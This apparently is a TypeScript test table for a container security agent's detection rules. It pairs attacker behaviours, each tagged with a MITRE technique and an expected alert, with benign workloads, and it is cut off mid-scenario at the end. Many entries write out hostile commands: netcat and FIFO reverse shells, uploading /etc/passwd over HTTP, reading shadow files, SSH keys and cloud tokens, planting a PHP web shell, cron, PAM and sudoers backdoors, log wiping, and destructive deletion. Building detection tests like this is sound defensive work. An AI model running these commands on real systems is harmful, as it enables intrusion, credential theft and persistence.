// SPDX-License-Identifier: Apache-2.0
/**
 * The scenario table: real attacker behaviour and real benign workloads, run inside real
 * containers (CRI pods on the test containerd) while the real agent runs. Each attack names the
 * rule that must fire and its MITRE technique; each benign scenario must raise nothing at all.
 *
 * Commands run with `/bin/sh -c` in the pod's container. The test image's busybox shell runs
 * applets in-process or re-executes itself as `exe`; `/applets/<name>` (symlinks made by
 * `busybox --install -s`) runs a tool the way an image with real binaries would (execve of the
 * tool's own path); a bare name exercises the busybox re-exec form on purpose. `$HOST` is the node's address (the pods
 * use the host network), `$T` the directory with the statically built `vigil-attack` helper and
 * its copies under other names (see attack.c), mounted read-only.
 */

import { ATTACKS_ATTEMPTS } from "./table-attempts.js";
import { ATTACKS_FILES } from "./table-files.js";
import { ATTACKS_IO_URING } from "./table-io-uring.js";
import { ATTACKS_NET, BENIGN_NET } from "./table-net.js";
import { ATTACKS_TAMPER, BENIGN_TAMPER } from "./table-tamper.js";

/** Which test pod a scenario runs in. */
export type PodName = "web" | "priv" | "benign";

export interface Scenario {
  name: string;
  /** MITRE technique the behaviour belongs to ("-" for benign). */
  technique: string;
  pod: PodName;
  cmd: string;
  /** The rule that must fire, or null: nothing may fire. */
  expect: string | null;
  /** Run with a terminal (ctr exec -t under script(1)). */
  tty?: boolean;
  /** Run as this user (uid) instead of root. */
  user?: string;
  /** Prepared first, as root, before the measured action. */
  setup?: string;
  /** Extra checks on the alert (FIM hashes...). */
  fim?: "modified" | "unchanged" | "created" | "any";
}

const T = "/opt/tools";
const CGI_SHELL = `printf '#!/bin/sh\\necho Content-type: text/plain\\necho\\nsh -c id\\n' > /www/cgi-bin/status && chmod 755 /www/cgi-bin/status`;
const CGI_UPLOAD = `printf '#!/bin/sh\\necho Content-type: text/plain\\necho\\necho "<?php system(\\\\$_GET[c]); ?>" > /www/shell.php\\n' > /www/cgi-bin/upload && chmod 755 /www/cgi-bin/upload`;
const HTTPD = "mkdir -p /www/cgi-bin && (pidof httpd >/dev/null || httpd -p 18081 -h /www)";

/** One scenario per rule of the drift, FIM and TTP packs (some rules have more than one variant). */
const ATTACKS_CORE: readonly Scenario[] = [
  // ---------------------------------------------------------------- drift
  { name: "drop a binary into the image filesystem and run it", technique: "T1105", pod: "web", expect: "Drift Executable Not In Image Run",
    cmd: "mkdir -p /app && cp /bin/busybox /app/busybox && /app/busybox true" },
  { name: "chmod +x a binary on a writable volume and run it", technique: "T1204.002", pod: "web", expect: "Drift Executable Modified After Container Start",
    cmd: "cp /bin/busybox /data/tool && chmod 755 /data/tool && /data/tool true; rm -f /data/tool" },
  { name: "run a payload from /dev/shm", technique: "T1059.004", pod: "web", expect: "Drift Execution From Shared Memory",
    cmd: "printf 'id\\n' > /dev/shm/x.sh && /bin/sh /dev/shm/x.sh; rm -f /dev/shm/x.sh" },
  { name: "run a payload from /tmp", technique: "T1204.002", pod: "web", expect: "Drift Execution From Temporary Directory",
    cmd: "cp /bin/busybox /tmp/busybox && cd /tmp && ./busybox true" },
  { name: "fileless execution from a memfd", technique: "T1620", pod: "web", expect: "Drift Fileless Execution Via Memfd",
    cmd: `${T}/vigil-attack memfd` },
  // ---------------------------------------------------------------- FIM
  { name: "write a new file under /etc", technique: "T1565.001", pod: "web", expect: "FIM Watched File Written", fim: "created",
    cmd: "echo 'listen=0.0.0.0' > /etc/app.conf" },
  { name: "modify a file under /etc", technique: "T1565.001", pod: "web", expect: "FIM Watched File Written", fim: "modified",
    cmd: "echo 'debug=1' >> /etc/app.conf" },
  { name: "rewrite a file under /etc with the same content", technique: "T1565.001", pod: "web", expect: "FIM Watched File Written", fim: "unchanged",
    cmd: "cat /etc/app.conf > /tmp/app.conf && cat /tmp/app.conf > /etc/app.conf" },
  { name: "change the mode of a file under /etc", technique: "T1222.002", pod: "web", expect: "FIM Watched File Permissions Changed",
    cmd: "chmod 666 /etc/app.conf" },
  { name: "change the owner of a file under /etc", technique: "T1222.002", pod: "web", expect: "FIM Watched File Ownership Changed",
    cmd: "chown 1000:1000 /etc/app.conf" },
  { name: "replace a file under /etc by rename", technique: "T1036", pod: "web", expect: "FIM Watched File Renamed",
    cmd: "echo 'listen=6.6.6.6' > /tmp/app.new && mv /tmp/app.new /etc/app.conf" },
  { name: "hard link a file into /etc", technique: "T1222.002", pod: "web", expect: "FIM Hard Link Created On Watched Path",
    cmd: "ln /etc/app.conf /etc/app.conf.bak" },
  { name: "symlink a library path to an attacker file", technique: "T1574", pod: "web", expect: "FIM Symlink Created On Watched Path",
    cmd: "mkdir -p /usr/lib && ln -sf /tmp/evil.so /usr/lib/libevil.so" },
  { name: "delete a file under /etc", technique: "T1070.004", pod: "web", expect: "FIM Watched File Deleted",
    cmd: "rm -f /etc/app.conf.bak" },
  // ---------------------------------------------------------------- credential access
  { name: "read the shadow file", technique: "T1003.008", pod: "web", expect: "Read Shadow File",
    cmd: "[ -f /etc/shadow ] || echo 'root:*:19000:0:99999:7:::' > /etc/shadow; /bin/cat /etc/shadow >/dev/null" },
  { name: "read an SSH private key", technique: "T1552.004", pod: "web", expect: "Read SSH Private Key",
    cmd: "mkdir -p /root/.ssh && echo KEY > /root/.ssh/id_ed25519 && cat /root/.ssh/id_ed25519 >/dev/null" },
  { name: "read AWS credentials", technique: "T1552.001", pod: "web", expect: "Read Cloud Or Tool Credentials File",
    cmd: "mkdir -p /root/.aws && echo '[default]' > /root/.aws/credentials && cat /root/.aws/credentials >/dev/null" },
  { name: "read the service account token with cat", technique: "T1528", pod: "web", expect: "Read Kubernetes Service Account Token With Shell Tools",
    cmd: "d=/var/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d && echo tok > $d/token && cat $d/token >/dev/null" },
  { name: "read the environment of pid 1", technique: "T1552", pod: "web", expect: "Read Environment Of Another Process",
    cmd: "cat /proc/1/environ >/dev/null" },
  { name: "read another process's memory", technique: "T1003.007", pod: "web", expect: "Read Process Memory Through Procfs",
    cmd: `${T}/vigil-attack procmem` },
  { name: "run a mimipenguin-style dumper", technique: "T1003.008", pod: "web", expect: "Credential Dumping Tool Run",
    cmd: "printf 'grep -a -o password=.. /proc/1/cmdline; true\\n' > /tmp/mimipenguin.sh && sh /tmp/mimipenguin.sh" },
  { name: "grep for private keys", technique: "T1552.004", pod: "web", expect: "Search For Private Keys Or Passwords",
    cmd: "/applets/grep -rl 'BEGIN RSA PRIVATE' /etc /root 2>/dev/null; true" },
  { name: "find SSH keys", technique: "T1552.004", pod: "web", expect: "Search For Private Keys Or Passwords",
    cmd: "/applets/find / -xdev -name 'id_rsa*' 2>/dev/null; true" },
  { name: "grep for AWS secret keys", technique: "T1552.001", pod: "web", expect: "Search For Cloud Credentials",
    cmd: "/applets/grep -ri aws_secret_access_key /root /home 2>/dev/null; true" },
  { name: "read the kubelet client certificate", technique: "T1552.001", pod: "web", expect: "Kubernetes Node Credentials Read",
    cmd: "mkdir -p /var/lib/kubelet/pki && echo CERT > /var/lib/kubelet/pki/kubelet-client-current.pem && cat /var/lib/kubelet/pki/kubelet-client-current.pem >/dev/null" },
  { name: "contact the instance metadata service", technique: "T1552.005", pod: "web", expect: "Cloud Instance Metadata Contacted From Container",
    cmd: "nc -w 1 169.254.169.254 80 </dev/null; true" },
  { name: "open a packet socket (arping)", technique: "T1557.002", pod: "web", expect: "Packet Socket Opened",
    cmd: "arping -c 1 -w 1 -I eth0 $HOST >/dev/null 2>&1; true" },
  { name: "symlink the shadow file", technique: "T1003.008", pod: "web", expect: "Symlink To Sensitive File Created", cmd: "ln -sf /etc/shadow /tmp/s" },
  { name: "hard link the shadow file", technique: "T1003.008", pod: "web", expect: "Hardlink To Sensitive File Created", cmd: "[ -f /etc/shadow ] || echo 'root:*:19000:0:99999:7:::' > /etc/shadow; ln -f /etc/shadow /tmp/h" },
  { name: "read the sudoers policy", technique: "T1548.003", pod: "web", expect: "Read Sudoers Or PAM Configuration",
    cmd: "[ -f /etc/sudoers ] || echo 'root ALL=(ALL) ALL' > /etc/sudoers; /bin/cat /etc/sudoers >/dev/null" },
  { name: "open /dev/mem", technique: "T1003", pod: "priv", expect: "Kernel Memory Opened",
    cmd: "[ -e /dev/mem ] || /applets/mknod /dev/mem c 1 1; /bin/head -c 1 /dev/mem >/dev/null 2>&1; true" },
  { name: "read root's shell history", technique: "T1552.003", pod: "web", expect: "Shell History Read By Another Program",
    setup: "echo 'mysql -uroot -psecret' > /root/.ash_history", cmd: "/bin/cat /root/.ash_history >/dev/null" },
  // ---------------------------------------------------------------- execution
  { name: "command injection through a CGI spawns a shell", technique: "T1190", pod: "web", expect: "Shell Spawned By Server Process",
    cmd: `${HTTPD} && ${CGI_SHELL} && wget -q -O- http://127.0.0.1:18081/cgi-bin/status` },
  { name: "interactive shell with a terminal", technique: "T1059.004", pod: "web", expect: "Terminal Shell In Container", tty: true, cmd: "exit 0" },
  { name: "pipe a downloaded script into sh", technique: "T1059.004", pod: "web", expect: "Script From Network Piped To Interpreter",
    cmd: `${HTTPD} && echo 'echo pwned' > /www/x.sh && wget -q -O- http://127.0.0.1:18081/x.sh | sh` },
  { name: "netcat -e reverse shell", technique: "T1059.004", pod: "web", expect: "Netcat Command Execution", cmd: "nc $HOST 4444 -e /bin/sh" },
  { name: "named pipe reverse shell", technique: "T1059.004", pod: "web", expect: "Reverse Shell Command Line",
    cmd: "rm -f /tmp/f; mkfifo /tmp/f; nc $HOST 4444 </tmp/f | sh >/tmp/f 2>&1; rm -f /tmp/f" },
  { name: "container runtime client in a pod", technique: "T1609", pod: "web", expect: "Container Administration Tool Run In Container",
    cmd: `${T}/ctr unixconnect /run/containerd/containerd.sock; true` },
  { name: "install a package at run time", technique: "T1072", pod: "web", expect: "Package Manager Run In Container",
    cmd: "/applets/dpkg -i /tmp/tools.deb 2>/dev/null; true" },
  { name: "fetch a file over FTP", technique: "T1105", pod: "web", expect: "Remote File Copy Tool Run In Container",
    cmd: "/applets/ftpget $HOST /tmp/x payload 2>/dev/null; true" },
  { name: "run telnet", technique: "T1095", pod: "web", expect: "Network Tool Run In Container", cmd: "/applets/telnet $HOST 22 </dev/null 2>/dev/null; true" },
  // ---------------------------------------------------------------- persistence
  { name: "drop a cron job", technique: "T1053.003", pod: "web", expect: "Cron Job Written",
    cmd: "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/backdoor" },
  { name: "install a crontab", technique: "T1053.003", pod: "web", expect: "Crontab Installed", cmd: "mkdir -p /var/spool/cron/crontabs && echo '* * * * * /tmp/x' | /applets/crontab -" },
  { name: "write a systemd service", technique: "T1543.002", pod: "web", expect: "Systemd Unit Or Init Script Written",
    cmd: "mkdir -p /etc/systemd/system && printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/backdoor.service" },
  { name: "add an SSH authorized key", technique: "T1098.004", pod: "web", expect: "SSH Authorized Keys Modified",
    cmd: "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3 attacker' >> /root/.ssh/authorized_keys" },
  { name: "backdoor root's bashrc", technique: "T1546.004", pod: "web", expect: "Shell Profile Modified", cmd: "echo '/tmp/.x &' >> /root/.bashrc" },
  { name: "configure ld.so.preload", technique: "T1574.006", pod: "web", expect: "Dynamic Linker Preload Configured",
    cmd: "echo /tmp/libx.so > /etc/ld.so.preload && rm -f /etc/ld.so.preload" },
  { name: "run a program with LD_PRELOAD from /tmp", technique: "T1574.006", pod: "web", expect: "LD_PRELOAD Injected Into Program",
    cmd: "LD_PRELOAD=/tmp/libx.so /bin/true" },
  { name: "create a user with useradd", technique: "T1136.001", pod: "web", expect: "User Account Created",
    cmd: "mkdir -p /usr/sbin && printf '#!/bin/sh\\necho \"$1:x:0:0::/:/bin/sh\" >> /etc/passwd\\n' > /usr/sbin/useradd && chmod 755 /usr/sbin/useradd && /usr/sbin/useradd svc" },
  { name: "append a root user to /etc/passwd", technique: "T1136.001", pod: "web", expect: "Account Database Written Directly",
    cmd: "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd" },
  { name: "load a kernel module", technique: "T1547.006", pod: "priv", expect: "Kernel Module Loaded",
    cmd: "echo garbage > /tmp/x.ko && /applets/insmod /tmp/x.ko; true" },
  { name: "a CGI writes a PHP web shell", technique: "T1505.003", pod: "web", expect: "Web Shell Written By Server Process",
    cmd: `${HTTPD} && ${CGI_UPLOAD} && wget -q -O- http://127.0.0.1:18081/cgi-bin/upload` },
  // ---------------------------------------------------------------- privilege escalation
  { name: "set the setuid bit", technique: "T1548.001", pod: "web", expect: "Setuid Or Setgid Bit Set",
    cmd: "cp /bin/busybox /tmp/suid && chmod 4755 /tmp/suid" },
  { name: "a non-root user becomes root through a setuid helper", technique: "T1548.001", pod: "web", expect: "Process Changed Its User To Root",
    setup: `cp ${T}/vigil-attack /tmp/suidhelper && chmod 4755 /tmp/suidhelper`, user: "1000", cmd: "/tmp/suidhelper setuid0" },
  { name: "raise capabilities with capset", technique: "T1548", pod: "priv", expect: "Capabilities Raised In Container", cmd: `${T}/vigil-attack capset` },
  { name: "mount the host disk", technique: "T1611", pod: "priv", expect: "Host Device Mounted In Container",
    cmd: "mkdir -p /mnt/host && mount -o ro /dev/vda /mnt/host; umount /mnt/host 2>/dev/null; true" },
  { name: "mount a cgroup hierarchy", technique: "T1611", pod: "priv", expect: "Kernel Interface File System Mounted In Container",
    cmd: "mkdir -p /mnt/cg && mount -t cgroup -o none,name=vigiltest cgroup /mnt/cg; umount /mnt/cg 2>/dev/null; true" },
  { name: "write a cgroup release_agent", technique: "T1611", pod: "priv", expect: "Cgroup Release Agent Written",
    cmd: "mkdir -p /mnt/cg && mount -t cgroup -o none,name=vigiltest cgroup /mnt/cg && : > /mnt/cg/release_agent; umount /mnt/cg 2>/dev/null; true" },
  { name: "open core_pattern for writing", technique: "T1611", pod: "priv", expect: "Kernel Escape Hook Written", cmd: ": > /proc/sys/kernel/core_pattern" },
  { name: "open a sysctl for writing", technique: "T1611", pod: "priv", expect: "Kernel Parameter Written From Container", cmd: ": > /proc/sys/vm/swappiness" },
  { name: "nsenter into pid 1's namespaces", technique: "T1611", pod: "priv", expect: "Nsenter Into Host Namespaces", cmd: "/applets/nsenter -t 1 -m -u -i -n /bin/true" },
  { name: "join a namespace with setns", technique: "T1611", pod: "priv", expect: "Namespace Joined From Container", cmd: "nsenter -t 1 -u true" },
  { name: "create a mount namespace with unshare", technique: "T1611", pod: "web", expect: "Namespace Created In Container", cmd: "/applets/unshare -m /bin/true; true" },
  { name: "run debugfs", technique: "T1611", pod: "priv", expect: "Debugfs Run In Container", cmd: `${T}/debugfs -R ls /dev/vda; true` },
  { name: "connect to the containerd socket", technique: "T1611", pod: "web", expect: "Container Runtime Socket Connected From Container",
    cmd: `${T}/vigil-attack unixconnect /run/containerd/containerd.sock` },
  { name: "run su", technique: "T1548.003", pod: "web", expect: "Sudo Or Su Run In Container", cmd: "/applets/su -c /bin/true root" },
  { name: "grant NOPASSWD sudo", technique: "T1548.003", pod: "web", expect: "Sudoers Modified",
    cmd: "mkdir -p /etc/sudoers.d && echo 'x ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/x" },
  { name: "ptrace attach to a process", technique: "T1055.008", pod: "web", expect: "Ptrace Attach Or Code Injection", cmd: `${T}/vigil-attack ptrace` },
  { name: "load an eBPF program", technique: "T1014", pod: "priv", expect: "BPF Program Loaded From Container", cmd: `${T}/vigil-attack bpf` },
  { name: "chroot", technique: "T1611", pod: "web", expect: "Chroot Run In Container", cmd: "/applets/chroot / /bin/true" },
  { name: "connect to the kubelet API port", technique: "T1210", pod: "web", expect: "Container Connected To Node Control Plane Port",
    cmd: "nc -w 1 $HOST 10250 </dev/null; true" },
  // ---------------------------------------------------------------- defense evasion
  { name: "truncate auth.log", technique: "T1070.002", pod: "web", expect: "Log Files Cleared", cmd: "mkdir -p /var/log && : > /var/log/auth.log" },
  { name: "delete a log file", technique: "T1070.002", pod: "web", expect: "Log Files Cleared", cmd: "touch /var/log/syslog && rm -f /var/log/syslog" },
  { name: "clear shell history", technique: "T1070.003", pod: "web", expect: "Shell History Cleared", cmd: "echo ls > /root/.ash_history; rm -f /root/.ash_history" },
  { name: "rm the login records", technique: "T1070.002", pod: "web", expect: "Log Files Cleared",
    cmd: "mkdir -p /var/log && touch /var/log/wtmp && /applets/rm -f /var/log/wtmp" },
  { name: "link shell history to /dev/null", technique: "T1070.003", pod: "web", expect: "Shell History Cleared",
    cmd: "/applets/ln -sf /dev/null /root/.bash_history" },
  { name: "timestomp a file", technique: "T1070.006", pod: "web", expect: "File Timestamps Forged", cmd: "/bin/touch /tmp/x && /bin/touch -d '2020-01-01 00:00' /tmp/x" },
  { name: "a payload deletes its own binary", technique: "T1070.004", pod: "web", expect: "Running Executable Deleted Itself",
    cmd: `cp ${T}/vigil-attack /tmp/va && /tmp/va selfdelete` },
  { name: "run a base64-decoded command", technique: "T1140", pod: "web", expect: "Base64 Decoded Payload Executed", cmd: "echo ZWNobyBoaQ== | base64 -d | sh" },
  { name: "exec with a kernel thread argv[0]", technique: "T1036.004", pod: "web", expect: "Process Masquerading As Kernel Thread",
    cmd: "exec -a '[kworker/0:1]' /bin/sleep 0" },
  { name: "run a payload named sshd from /tmp", technique: "T1036.005", pod: "web", expect: "System Program Name Run From Writable Location",
    cmd: "cp /bin/busybox /tmp/sshd && /tmp/sshd; true" },
  { name: "rename a process to kworker", technique: "T1036.004", pod: "web", expect: "Process Renamed To Mimic System Program",
    cmd: `${T}/vigil-attack rename kworker/1:2` },
  { name: "PTRACE_TRACEME anti-debugging", technique: "T1622", pod: "web", expect: "PTRACE Anti-Debug Attempt", cmd: `${T}/vigil-attack traceme` },
  { name: "kill the security agent", technique: "T1562.001", pod: "web", expect: "Security Tool Disabled", cmd: "/applets/killall falco 2>/dev/null; true" },
  { name: "write another process's memory", technique: "T1055.009", pod: "web", expect: "Process Memory Written Through Procfs",
    cmd: `${T}/vigil-attack procmem` },
  { name: "backdoor PAM", technique: "T1556.003", pod: "web", expect: "PAM Configuration Modified",
    cmd: "mkdir -p /etc/pam.d && echo 'auth sufficient pam_permit.so' > /etc/pam.d/sshd" },
  // ---------------------------------------------------------------- discovery
  { name: "port scan the node", technique: "T1046", pod: "web", expect: "Network Scanning Tool Run", cmd: `${T}/nmap scan $HOST 20 30` },
  { name: "search for setuid binaries", technique: "T1083", pod: "web", expect: "Setuid Binary Search", cmd: "/applets/find / -xdev -perm -4000 -type f 2>/dev/null; true" },
  { name: "run linpeas", technique: "T1082", pod: "web", expect: "Enumeration Script Run",
    cmd: "printf 'id; uname -a; cat /proc/1/cgroup\\n' > /tmp/linpeas.sh && sh /tmp/linpeas.sh >/dev/null" },
  { name: "poke the Kubernetes API with nc", technique: "T1613", pod: "web", expect: "Kubernetes API Server Contacted By Shell Tool",
    cmd: "nc -w 1 10.96.0.1 443 </dev/null 2>/dev/null; true" },
  { name: "hide a file in /dev", technique: "T1564.001", pod: "web", expect: "File Created Below /dev", cmd: "echo x > /dev/.cache; rm -f /dev/.cache" },
  { name: "upload /etc/passwd over HTTP", technique: "T1048.003", pod: "web", expect: "Data Uploaded With Command-Line HTTP Client",
    cmd: "/applets/wget -q -T 2 --post-file=/etc/passwd -O /dev/null http://$HOST:8080/ 2>/dev/null; true" },
  { name: "read a file through /proc/1/root", technique: "T1611", pod: "web", expect: "Other Process Root Accessed Through Procfs",
    cmd: "/bin/cat /proc/1/root/etc/passwd >/dev/null" },
  // ---------------------------------------------------------------- lateral movement and C2
  { name: "reverse shell: socket dup2'd onto stdio", technique: "T1059.004", pod: "web", expect: "Reverse Shell Socket Redirected To Standard Streams",
    cmd: `${T}/vigil-attack revshell $HOST 4444` },
  { name: "reverse shell with busybox nc -e", technique: "T1059.004", pod: "web", expect: "Reverse Shell Socket Redirected To Standard Streams",
    cmd: "/applets/nc $HOST 4444 -e /bin/sh" },
  { name: "a shell opens a TCP connection", technique: "T1071", pod: "web", expect: "Outbound Connection From Program That Never Connects",
    cmd: `${T}/bash connect $HOST 443` },
  { name: "connect to a backdoor port", technique: "T1571", pod: "web", expect: "Connection To Known Backdoor Or C2 Port", cmd: "nc -w 1 $HOST 31337 </dev/null; true" },
  { name: "ssh out over port 443", technique: "T1572", pod: "web", expect: "SSH Client On Non-Standard Port", cmd: `${T}/ssh connect $HOST 443` },
  { name: "connect to another host's SSH", technique: "T1021.004", pod: "web", expect: "Remote Service Connection From Container", cmd: "nc -w 1 $HOST 22 </dev/null; true" },
  // ---------------------------------------------------------------- impact
  { name: "connect to a mining pool port", technique: "T1496.001", pod: "web", expect: "Crypto Mining Pool Connection", cmd: `${T}/vigil-attack connect $HOST 3333` },
  { name: "run a miner with a stratum URL", technique: "T1496.001", pod: "web", expect: "Crypto Miner Run",
    cmd: `${T}/xmrig connect $HOST 3333 '{"id":1,"method":"login","params":{"agent":"XMRig/6.21.0"}}' -o stratum+tcp://$HOST:3333` },
  { name: "speak stratum on a web port", technique: "T1496.001", pod: "web", expect: "Stratum Mining Protocol Sent",
    cmd: `${T}/vigil-attack connect $HOST 8080 '{"id":1,"method":"mining.subscribe","params":[]}'` },
  { name: "shred a disk image", technique: "T1485", pod: "web", expect: "Data Destruction Tool Run",
    cmd: "/applets/dd if=/dev/zero of=/tmp/disk.img bs=1k count=64 2>/dev/null && /applets/shred -n 1 /tmp/disk.img" },
  { name: "rm -rf a data directory", technique: "T1485", pod: "web", expect: "Mass Deletion Of Important Directory",
    cmd: "mkdir -p /srv/data && touch /srv/data/a /srv/data/b && /applets/rm -rf /srv/data" },
  { name: "encrypt files with openssl enc", technique: "T1486", pod: "web", expect: "Files Encrypted With Command-Line Tool",
    cmd: `echo data > /tmp/db.dump && ${T}/openssl enc -aes-256-cbc -pbkdf2 -k x -in /tmp/db.dump -out /tmp/db.dump.enc; true` },
];

// Benign workloads of a real node (BENIGN_CORE below). Each prepares what the image would ship
// (the app's CGI scripts, its crontab, its vendor tarball) in the same command, before the daemon
// that uses it starts: a script written while its server runs is what a web shell looks like.
const APP = "/srv/app";
/** The app's web root and CGI scripts, deployed once (a redeploy while the server runs is what a web shell looks like). */
const APP_CGI =
  `[ -x ${APP}/www/cgi-bin/orders ] || { mkdir -p ${APP}/www/cgi-bin /var/lib/app && echo '<h1>shop</h1>' > ${APP}/www/index.html` +
  ` && printf '#!/bin/sh\\necho Content-type: text/plain\\necho\\necho ok\\n' > ${APP}/www/cgi-bin/health` +
  ` && printf '#!/bin/sh\\necho Content-type: text/plain\\necho\\n[ -n "$QUERY_STRING" ] && echo "$QUERY_STRING" >> /var/lib/app/orders\\nwc -l < /var/lib/app/orders\\n' > ${APP}/www/cgi-bin/orders` +
  ` && chmod 755 ${APP}/www/cgi-bin/health ${APP}/www/cgi-bin/orders && touch /var/lib/app/orders; }`;
/** Images have their tools on PATH: busybox tar runs `gzip` by PATH lookup, the shell does not. */
const TOOLS_ON_PATH = "export PATH=/bin:/applets";
/** The app's server on 18091, started (once) a second after its CGI scripts are in place. */
const APP_HTTPD = `(pidof httpd >/dev/null && wget -q -O /dev/null http://127.0.0.1:18091/ 2>/dev/null || { sleep 1; httpd -p 18091 -h ${APP}/www; sleep 0.3; })`;
/**
 * The app's crontab and job, run every minute by busybox crond from the app's own crontab directory
 * (this busybox's crond crashes on @reboot, so the first run comes at the next minute boundary).
 */
const CRON =
  "mkdir -p /srv/cron/crontabs /srv/cache && printf '#!/bin/sh\\ndate >> /srv/cron/heartbeat\\nfind /srv/cache -type f -mtime +1 -exec rm -f {} +\\n/opt/bin/logrotate /srv/cron/heartbeat\\ntouch /srv/cron/ran\\n' > /srv/cron/job.sh" +
  " && echo '* * * * * sh /srv/cron/job.sh' > /srv/cron/crontabs/root" +
  " && mkdir -p /var/run && (pidof crond >/dev/null || crond -b -c /srv/cron/crontabs -L /srv/cron/crond.log)";

/** Ordinary workloads that must raise no alert at all. */
const BENIGN_CORE: readonly Scenario[] = [
  // cron first: crond starts here with the app's crontab and the last scenario of this list waits
  // for its job (each run in between is charged to whichever benign scenario runs at the time)
  { name: "cron daemon started with the app's crontab", technique: "-", pod: "benign", expect: null, cmd: CRON },
  { name: "shell script without a terminal", technique: "-", pod: "benign", expect: null, cmd: "for i in 1 2 3; do echo $i; done >/dev/null" },
  { name: "file churn in /tmp", technique: "-", pod: "benign", expect: null,
    cmd: "mkdir -p /tmp/churn && for i in $(seq 1 200); do echo $i > /tmp/churn/f$i; mv /tmp/churn/f$i /tmp/churn/g$i; done && rm -rf /tmp/churn" },
  { name: "web server answering requests", technique: "-", pod: "benign", expect: null,
    cmd: "mkdir -p /srv/www && echo ok > /srv/www/index.html && (pidof httpd >/dev/null || httpd -p 18090 -h /srv/www) && for i in 1 2 3 4 5; do wget -q -O- http://127.0.0.1:18090/index.html >/dev/null; done" },
  { name: "log rotation", technique: "-", pod: "benign", expect: null,
    cmd: "mkdir -p /var/log/app && echo line >> /var/log/app/app.log && /opt/bin/logrotate /var/log/app/app.log" },
  { name: "a build writing files", technique: "-", pod: "benign", expect: null,
    cmd: `${TOOLS_ON_PATH} && mkdir -p /build/out && cd /build && for i in 1 2 3; do echo "int f$i;" > src$i.c; cp src$i.c out/obj$i.o; done && tar czf out/app.tgz out/*.o && sha256sum out/app.tgz >/dev/null && cd / && rm -rf /build` },
  { name: "package manager installing under its own prefix", technique: "-", pod: "benign", expect: null, cmd: "/opt/bin/pip install requests" },
  { name: "read the user database", technique: "-", pod: "benign", expect: null, cmd: "id >/dev/null; whoami >/dev/null; grep root /etc/passwd >/dev/null" },
  { name: "list processes", technique: "-", pod: "benign", expect: null, cmd: "ps >/dev/null; top -b -n 1 >/dev/null" },
  { name: "find files in the app", technique: "-", pod: "benign", expect: null, cmd: "find /srv /opt -name '*.html' 2>/dev/null >/dev/null; true" },
  { name: "read its own environment", technique: "-", pod: "benign", expect: null, cmd: "cat /proc/self/environ >/dev/null; env >/dev/null" },
  { name: "system information", technique: "-", pod: "benign", expect: null, cmd: "uname -a >/dev/null; hostname >/dev/null; date >/dev/null; df >/dev/null" },
  { name: "background job and kill", technique: "-", pod: "benign", expect: null, cmd: "sleep 30 & kill $!; wait; true" },
  { name: "tar round trip in /tmp", technique: "-", pod: "benign", expect: null,
    cmd: "mkdir -p /tmp/t/a && echo x > /tmp/t/a/b && tar cf /tmp/t.tar -C /tmp/t a && mkdir -p /tmp/u && tar xf /tmp/t.tar -C /tmp/u && rm -rf /tmp/t /tmp/u /tmp/t.tar" },
  { name: "checksums", technique: "-", pod: "benign", expect: null, cmd: "sha256sum /bin/busybox >/dev/null; md5sum /etc/passwd >/dev/null" },
  { name: "HTTP client to a local service", technique: "-", pod: "benign", expect: null,
    cmd: "(pidof httpd >/dev/null || httpd -p 18090 -h /srv/www) && wget -q -O /tmp/page http://127.0.0.1:18090/ ; rm -f /tmp/page; true" },
  { name: "list the crontab", technique: "-", pod: "benign", expect: null, cmd: "crontab -l 2>/dev/null; true" },
  { name: "touch a timestamp file", technique: "-", pod: "benign", expect: null, cmd: "touch /tmp/.stamp && rm -f /tmp/.stamp" },
  { name: "remove a temporary build tree", technique: "-", pod: "benign", expect: null, cmd: "mkdir -p /tmp/b/c && touch /tmp/b/c/d && rm -rf /tmp/b" },
  { name: "base64 encode and decode data", technique: "-", pod: "benign", expect: null, cmd: "echo hello | base64 | base64 -d >/dev/null" },
  { name: "edit an app config in place", technique: "-", pod: "benign", expect: null,
    cmd: "mkdir -p /srv/app && echo 'port=80' > /srv/app/app.conf && sed -i 's/80/8080/' /srv/app/app.conf" },
  { name: "dd to a scratch file", technique: "-", pod: "benign", expect: null, cmd: "dd if=/dev/zero of=/tmp/scratch bs=1k count=128 2>/dev/null && rm -f /tmp/scratch" },
  { name: "gzip and gunzip a log", technique: "-", pod: "benign", expect: null,
    cmd: "mkdir -p /srv/logs && seq 1 1000 > /srv/logs/a.log && gzip /srv/logs/a.log && gunzip /srv/logs/a.log.gz && rm -rf /srv/logs" },
  { name: "sleep and exit", technique: "-", pod: "benign", expect: null, cmd: "sleep 0.2" },
  // ---------------------------------------------------------------- what real nodes run
  { name: "package install: vendor tarball unpacked into /opt, data and docs copied into /usr/share with cp -p", technique: "-", pod: "benign", expect: null,
    cmd:
      `${TOOLS_ON_PATH} && d=/var/cache/pkgs/src/app-1.2 && mkdir -p $d/share/doc $d/share/data && echo 'app 1.2' > $d/share/doc/README && seq 1 50 > $d/share/data/table.dat` +
      " && tar czf /var/cache/pkgs/app-1.2.tgz -C /var/cache/pkgs/src app-1.2 && rm -rf /var/cache/pkgs/src" +
      " && mkdir -p /opt/app /usr/share/doc/app /usr/local/share/app && tar xzf /var/cache/pkgs/app-1.2.tgz -C /opt/app" +
      " && cp -p /opt/app/app-1.2/share/doc/README /usr/share/doc/app/ && cp -pR /opt/app/app-1.2/share/data /usr/local/share/app/ && ls -l /usr/local/share/app/data >/dev/null" },
  { name: "package install: pip installs two packages under its own prefix", technique: "-", pod: "benign", expect: null,
    cmd: "/opt/bin/pip install flask && /opt/bin/pip install jinja2 && ls /usr/lib/python3/site-packages >/dev/null" },
  // a build writes objects and runs its test script with the image's shell (the executed binary is
  // the image's; the script is data): not drift. Running a freshly linked native binary would be
  // drift (Drift Executable Not In Image Run) by definition: build images belong in
  // vigil_drift_allowed_images.
  { name: "language build: sources compiled to objects in a build dir, tests run by the image's shell", technique: "-", pod: "benign", expect: null,
    cmd:
      "mkdir -p /src/app/build && cd /src/app && for m in main util net; do printf 'int %s(void){return 0;}\\n' $m > $m.c; done" +
      " && for m in main util net; do sed 's/return 0/return 1/' $m.c | gzip -c > build/$m.o; done && cat build/*.o > build/app.a" +
